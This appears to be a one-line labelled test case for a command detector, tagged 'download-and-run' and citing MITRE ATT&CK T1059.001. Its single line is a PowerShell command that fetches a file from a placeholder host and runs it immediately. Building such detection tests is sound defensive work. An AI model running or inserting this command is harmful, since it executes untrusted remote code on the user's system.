# expect: download-and-run | source: MITRE ATT&CK T1059.001
irm http://files.example.invalid/stage | iex
